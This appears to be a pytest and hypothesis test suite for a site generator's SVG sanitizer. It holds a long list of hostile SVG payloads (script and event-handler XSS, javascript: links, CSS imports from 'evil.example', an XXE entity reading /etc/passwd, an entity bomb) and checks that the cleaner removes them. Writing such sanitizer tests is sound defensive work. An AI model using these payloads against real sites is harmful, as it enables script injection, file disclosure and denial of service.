"""Drawings from outside are served safe: what could act or reach out is gone, the drawing is not."""

import base64
import contextlib
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from sitegen import images, svg

from . import pictures

HEAD = f'<svg xmlns="{svg.SVG}" xmlns:xlink="{svg.XLINK}" width="10" height="10"'


def cleaned(inner, *, attributes=""):
    return svg.clean(f"{HEAD} {attributes}>{inner}</svg>".encode())


ATTACKS = [
    "<script>alert(1)</script>",
    '<script href="//evil.example/x.js"/>',
    '<script xlink:href="data:text/javascript,alert(1)"/>',
    '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "<g onclick='alert(1)' onload='alert(1)'/>",
    "<rect ONMOUSEOVER='alert(1)' width='9' height='9'/>",
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="//evil.example"/>',
    '<a href="javascript:alert(1)"><text>x</text></a>',
    '<a xlink:href=" java&#10;script:alert(1)"><text>x</text></a>',
    '<a href="data:text/html,alert(1)"><text>x</text></a>',
    '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
    '<use xlink:href="https://evil.example/a.svg#x"/>',
    '<image href="https://evil.example/pixel.png"/>',
    '<image href="//evil.example/pixel.png"/>',
    '<image xlink:href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>',
    '<feImage href="https://evil.example/x.png"/>',
    '<a href="#"><animate attributeName="href" values="javascript:alert(1)"/></a>',
    '<a><animate attributeName="xlink:href" to="javascript:alert(1)"/></a>',
    '<set attributeName="onclick" to="alert(1)"/>',
    '<animate attributeName="onload" to="alert(1)"/>',
    '<handler xmlns="http://www.w3.org/2001/xml-events" type="text/javascript">alert(1)</handler>',
    '<style>@import url("https://evil.example/a.css");</style>',
    "<style>@import 'https://evil.example/a.css'; rect{fill:red}</style>",
    "<style>@\\69mport 'https://evil.example/a.css';</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>",
    "<style>rect{fill:url(https://evil.example/a.svg#b)}</style>",
    "<style>rect{background:u\\72l(https://evil.example)}</style>",
    "<style>rect{background:image-set('https://evil.example/a' 1x)}</style>",
    "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
    '<rect style="fill:url(//evil.example/x)"/>',
    '<rect fill="url(https://evil.example/x#y)"/>',
    "<rect filter=\"url( 'https://evil.example/x#y' )\"/>",
    '<rect cursor="url(https://evil.example/x), auto"/>',
    '<g xml:base="https://evil.example/"><use href="#x"/></g>',
    '<metadata><x:creator xmlns:x="urn:x">alert(1)</x:creator></metadata>',
    '<title><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example/x"/></title>',
    "<!-- evil.example alert(1) -->",
    "<?php alert(1) ?>",
    '<i:pgf xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/">alert(1) evil.example</i:pgf>',
    '<g data-owner="evil.example" sodipodi:docname="/home/evil.example" xmlns:sodipodi="urn:s"/>',
    '<audio xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/a.mp3" autoplay=""/>',
    '<discard begin="0s" href="#evil.example"/>',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_leave_nothing(attack):
    data = cleaned(attack).data.decode()
    assert not re.search(
        r"alert|evil|script|foreignObject|iframe|xhtml|\bon\w+=|@import|<\?|<!", data, re.IGNORECASE
    )
    assert etree.fromstring(data) is not None


def test_events_on_the_root_go_and_are_told():
    result = cleaned("<script/><rect/>", attributes="onload='alert(1)'")
    assert result.removed == ("onload", "script")
    assert b"onload" not in result.data


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE svg [<!ENTITY x "alert(1)">]>',
        '<!DOCTYPE svg SYSTEM "https://evil.example/svg.dtd">',
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<?xml-stylesheet href="https://evil.example/a.css"?>',
    ],
)
def test_document_types_entities_and_instructions_go(head):
    entity = "&x;" if "ENTITY" in head else ""
    data = f"{head}{HEAD}><text>before {entity} after</text></svg>".encode()
    result = svg.clean(data).data
    assert not re.search(rb"alert|evil|root:|DOCTYPE|<\?", result)
    assert b"after</text>" in result


def test_an_entity_bomb_is_refused_or_dropped_in_bounded_memory():
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 20}">' for n in range(1, 12))
    data = f'<!DOCTYPE svg [<!ENTITY e0 "lol">{levels}]>{HEAD}><text x="&e11;">&e11;</text></svg>'.encode()
    result = images.clean(data, "bomb.svg")
    assert isinstance(result, images.Fault) or len(result) < 1000


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"<svg",
        b"<svg></svg>",
        b"<html/>",
        HEAD.encode() + b"><g></svg>",
        b"\xff\xfe<\0s\0",
        b"<g>" * 9999,
    ],
)
def test_what_cannot_be_parsed_is_refused(data):
    with pytest.raises(svg.UnreadableSvgError):
        svg.clean(data)


def test_a_drawing_nested_beyond_reason_is_refused():
    with pytest.raises(svg.UnreadableSvgError):
        cleaned("<g>" * 5000 + "</g>" * 5000)


@pytest.mark.parametrize(
    "inner",
    [
        "<g/>" * 250_000,
        "<g " + " ".join(f"a{n}='1'" for n in range(9000)) + "/>",
        "<text>" + "<b/>x" * 250_000 + "</text>",
    ],
)
def test_a_drawing_of_too_many_parts_is_refused(inner):
    with pytest.raises(svg.UnreadableSvgError, match="more elements"):
        cleaned(inner)


@pytest.mark.parametrize(
    "inner",
    ["<style>" + "/*" * 300_000 + "</style>", "<style>" + "@font-face{" * 90_000 + "</style>",
     f"<g fill='{'url( ' * 200_000}'/>"],
)  # fmt: skip
def test_no_text_keeps_the_cleaner_busy(inner):
    assert not re.search(rb"url|@|/\*", cleaned(inner).data)


def test_no_number_keeps_the_cleaner_busy():
    data = f'<svg xmlns="{svg.SVG}" height="2" width="1{" " * 900_000}x"/>'
    assert svg.probe(data.encode()) == (0, 0)


def test_a_sound_drawing_stays_as_it_is():
    sound = (
        "<title>Rain, by year</title><desc>Less.</desc><defs><linearGradient id='a'><stop offset='0'"
        " stop-color='#fff'/></linearGradient><clipPath id='c'><circle r='4'/></clipPath></defs>"
        "<style>.x{fill:url(#a)} @media (prefers-color-scheme: dark){.x{fill:#fff}}</style>"
        "<g transform='rotate(4)' class='x' clip-path='url(#c)'><path d='M0 0h9v9z' fill=\"url('#a')\"/>"
        "<use xlink:href='#p'/><text x='1' y='2' text-anchor='middle' xml:lang='fa' direction='rtl'>سال"
        " <tspan dy='3'>۱۴۰۲</tspan> باران</text></g>"
        "<a href='https://example.org/data'><text>data</text></a>"
        "<circle r='2'><animate attributeName='r' from='1' to='2' dur='2s'/></circle>"
    )
    result = cleaned(sound)
    assert result.removed == ()
    before = etree.fromstring(f"{HEAD}>{sound}</svg>")
    after = etree.fromstring(result.data)
    assert etree.tostring(after, method="c14n2") == etree.tostring(before, method="c14n2")


def test_what_stands_beside_something_dropped_stays():
    data = cleaned("<text>one <script>x</script>two <b>x</b>three</text>").data
    assert b">one two three</text>" in data


def test_fonts_and_imports_go_but_the_colours_stay():
    result = cleaned("<style>@import url(x.css);@font-face{src:url(f.woff)}.a{fill:red}</style>").data
    assert b"<style>.a{fill:red}</style>" in result


def test_pictures_inside_are_cleaned_too():
    inner = base64.b64encode(pictures.jpeg(orientation=6)).decode()
    data = f'{HEAD}><image href="data:image/jpeg;base64,\n{inner}" width="9"/></svg>'.encode()
    result = images.clean(data, "a.svg")
    kept = base64.b64decode(re.search(rb"base64,([^\"]+)", result)[1])
    assert pictures.opened(kept).size == (40, 64)
    assert not any(secret in kept for secret in pictures.SECRETS)


@pytest.mark.parametrize(
    "address", ["data:image/png;base64,!!!", "data:image/png;base64,aGVsbG8=", "photo.png"]
)
def test_pictures_that_cannot_be_cleaned_are_dropped(address):
    result = images.clean(f'{HEAD}><image href="{address}"/></svg>'.encode(), "a.svg")
    assert b"href" not in result
    assert images.removed_from_svg(f'{HEAD}><image href="{address}"/></svg>'.encode()) == ("href",)


def test_cleaning_twice_changes_nothing():
    for attack in ATTACKS:
        once = cleaned(attack).data
        assert svg.clean(once).data == once


NAMES = st.sampled_from(
    ["g", "text", "a", "style", "image", "use", "script", "foreignObject", "animate", "metadata"]
)
VALUES = st.sampled_from(
    ["javascript:alert(1)", "#a", "url(//e.example)", "https://e.example/", "1", "href", "data:,x"]
)
KEYS = st.sampled_from(["href", "xlink:href", "onload", "style", "fill", "attributeName", "to", "id"])


def _attributes(given):
    return "".join(f' {key}="{value}"' for key, value in given.items())


TREES = st.recursive(
    st.text("<>&;()@ abc\\", max_size=6).map(lambda text: text.replace("&", "&amp;").replace("<", "&lt;")),
    lambda inner: st.builds(
        lambda name, given, parts: f"<{name}{given}>{''.join(parts)}</{name}>",
        NAMES, st.dictionaries(KEYS, VALUES, max_size=3).map(_attributes), st.lists(inner, max_size=3),
    ),
    max_leaves=12,
)  # fmt: skip


@given(TREES)
def test_whatever_is_nested_only_allowed_things_remain(inner):
    root = etree.fromstring(cleaned(inner).data)
    for element in root.iter():
        assert element.tag[1:].partition("}")[0] == svg.SVG
        assert etree.QName(element).localname in svg.ELEMENTS
        for name, value in element.attrib.items():
            assert etree.QName(name).localname in svg.ATTRIBUTES
            assert "javascript" not in value or etree.QName(name).localname in {"to", "id"}
            assert "url(//" not in value
        if etree.QName(element).localname in svg.ANIMATIONS:
            assert element.get("attributeName") != "href"


@given(st.binary(max_size=200))
def test_any_bytes_are_cleaned_or_refused(data):
    with contextlib.suppress(svg.UnreadableSvgError):
        assert svg.clean(data).data.startswith(b"<")


def test_a_drawing_that_is_too_large_is_told_so_with_a_cure():
    data = b'<svg xmlns="http://www.w3.org/2000/svg"><path d="' + b"M0 0 " * 1_100_000 + b'"/></svg>'
    fault = images.probe(data, "a.svg")
    assert (fault.code, "5 MB" in fault.message) == ("image-too-large", True)
    assert "PNG" in fault.hint
